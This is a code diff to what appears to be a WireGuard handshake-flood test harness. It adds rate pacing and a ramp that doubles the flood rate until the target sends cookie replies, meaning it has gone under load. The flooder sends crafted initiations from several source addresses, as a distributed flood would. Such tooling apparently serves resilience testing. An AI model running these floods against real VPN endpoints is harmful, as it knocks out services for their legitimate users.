@@ -32,6 +32,13 @@ from ..noise import DhKeyPair
 from .adversary import craft_initiation
 
 POOL = 256  # distinct initiations, sent round-robin
+# A ramped flood (`Flooder.faster`) starts here, datagrams per second; past RAMP_LIMIT it
+# runs unpaced. Every implementation goes under load somewhere on the way (pywg past 128
+# handshake messages a second, wireguard-go once its handshake queue holds 128), and a
+# flood only just past that leaves the target's CPU to answer the legitimate handshake,
+# which a flood at full speed on a small shared machine may not (whitepaper §5.3).
+RAMP_START: float = 4_000.0
+RAMP_LIMIT: float = 1_000_000.0
 
 
 @dataclass(frozen=True, slots=True)
@@ -51,9 +58,10 @@ class Flooder(Closing):
 
     With several sockets (bound to different source addresses) consecutive
     datagrams go out from consecutive sockets, as a flood from many hosts
-    would arrive. Bounded: it stops by itself after `max_seconds`. Use as a
-    context manager (starts on entry; stops, joins and closes the sockets on
-    exit); `stats()` at any time.
+    would arrive. Bounded: it stops by itself after `max_seconds`. `rate`
+    paces it (datagrams per second; None: as fast as it can), and `faster()`
+    doubles that. Use as a context manager (starts on entry; stops, joins and
+    closes the sockets on exit); `stats()` at any time.
     """
 
     def __init__(
@@ -63,6 +71,7 @@ class Flooder(Closing):
         datagrams: Sequence[bytes],
         *,
         max_seconds: float,
+        rate: float | None = None,
     ) -> None:
         if not datagrams or not socks:
             raise ValueError("nothing to flood with")
@@ -81,6 +90,20 @@ class Flooder(Closing):
         self._errors = 0
         self._started = 0.0
         self._stopped: float | None = None
+        self._rate = rate
+        self._pace_from = (0.0, 0)  # (time, datagrams sent then) the current rate counts from
+
+    @property
+    def pace(self) -> float | None:
+        """The rate it is paced at (datagrams per second); None: as fast as it can."""
+        return self._rate
+
+    def faster(self) -> None:
+        """Double the rate (past RAMP_LIMIT: as fast as it can)."""
+        if self._rate is not None:
+            doubled = self._rate * 2
+            self._rate = doubled if doubled <= RAMP_LIMIT else None
+            self._pace_from = (time.monotonic(), self._sent)
 
     def _run(self) -> None:
         for sock in self.socks:
@@ -88,6 +111,7 @@ class Flooder(Closing):
         destination = self.destination
         plan = self._plan
         end = self._started + self.max_seconds
+        self._pace_from = (self._started, 0)
         while not self._stop.is_set() and time.monotonic() < end:
             for sendto, data in plan:
                 try:
@@ -95,7 +119,17 @@ class Flooder(Closing):
                 except OSError:  # ENOBUFS, a send-buffer timeout: keep going
                     self._errors += 1
             self._sent += len(plan)
+            self._keep_pace()
         self._stopped = time.monotonic()
+
+    def _keep_pace(self) -> None:
+        """Wait until the datagrams sent so far are due at the current rate."""
+        rate = self._rate
+        if rate is not None:
+            since, sent_then = self._pace_from
+            delay = since + (self._sent - sent_then) / rate - time.monotonic()
+            if delay > 0:
+                self._stop.wait(delay)
 
     def start(self) -> Self:
         self._started = time.monotonic()
@@ -190,11 +224,12 @@ class HandshakeFlood(Flooder):
         sources: Sequence[str] = (),
         *,
         max_seconds: float = 120.0,
+        rate: float | None = None,
     ) -> None:
         family = socket.AF_INET6 if ":" in target[0] else socket.AF_INET
         socks = flood_sockets(host, sources or [""], receive_buffer=1 << 20, family=family)
         pool = flood_initiations(bytes(target_key), POOL)
-        super().__init__(socks, target, pool, max_seconds=max_seconds)
+        super().__init__(socks, target, pool, max_seconds=max_seconds, rate=rate)
         self._receiver = threading.Thread(
             target=receive_until,
             args=(self._stop, self.socks, self._count),  # until stop()
@@ -217,6 +252,16 @@ class HandshakeFlood(Flooder):
         super().start()
         self._receiver.start()
         return self
+
+    def ramp_until_under_load(self, deadline: float, step: float = 0.5) -> None:
+        """Double the rate every `step` seconds until cookie replies come back (the target
+        went under load) or `deadline` seconds pass; then hold it there."""
+        end = time.monotonic() + deadline
+        while self.cookie_replies == 0 and time.monotonic() < end:
+            if self._stop.wait(step):
+                return
+            if self.cookie_replies == 0:
+                self.faster()
 
     def _count(self, data: bytes) -> None:
         if len(data) == COOKIE_REPLY_SIZE and message_type(data) == MESSAGE_COOKIE_REPLY:
